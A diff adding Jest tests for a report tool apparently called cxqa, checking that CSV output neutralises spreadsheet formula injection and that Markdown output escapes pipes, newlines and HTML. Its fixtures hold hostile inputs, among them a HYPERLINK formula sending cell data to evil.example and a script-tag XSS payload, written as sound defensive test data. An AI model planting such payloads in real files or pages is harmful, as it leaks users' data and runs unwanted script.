@@ -106,3 +106,30 @@ describe('cxqa alerts', () => {
     expect(report.alerts[0].conversations[0].queue).toMatch(/•/);
   });
 });
+
+describe('cxqa report writes hostile group keys as text', () => {
+  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+SUM(1,2)', '@cmd', 'a|b|c', 'line1\nline2', '<script>alert(3)</script>'];
+  const path = file('hostile.jsonl', jsonl(hostile.map((agent, i) => result({ conversationId: `h${i}`, agentIds: [agent] }))));
+
+  it('CSV: a cell that would start a spreadsheet formula is prefixed with a quote', async () => {
+    const r = await run(['report', path, '--by', 'agent', '--format', 'csv']);
+    expect(r.code, r.err).toBe(0);
+    for (const start of ['=HYPERLINK', '+SUM', '@cmd']) {
+      expect(r.out).not.toMatch(new RegExp(`(^|,)"?\\${start[0]}${start.slice(1)}`, 'm'));
+      expect(r.out).toContain(`'${start}`);
+    }
+  });
+
+  it('Markdown: pipes escaped, line breaks flattened, HTML as entities, one row per group', async () => {
+    const r = await run(['report', path, '--by', 'agent', '--format', 'md']);
+    expect(r.code, r.err).toBe(0);
+    const rows = r.out.trim().split('\n');
+    expect(rows).toHaveLength(2 + hostile.length);
+    const columns = (row: string) => row.split(/(?<!\\)\|/).length;
+    expect(new Set(rows.map(columns)).size).toBe(1);
+    expect(r.out).toContain('a\\|b\\|c');
+    expect(r.out).toContain('line1 line2');
+    expect(r.out).toContain('&lt;script&gt;');
+    expect(r.out).not.toContain('<script>');
+  });
+});
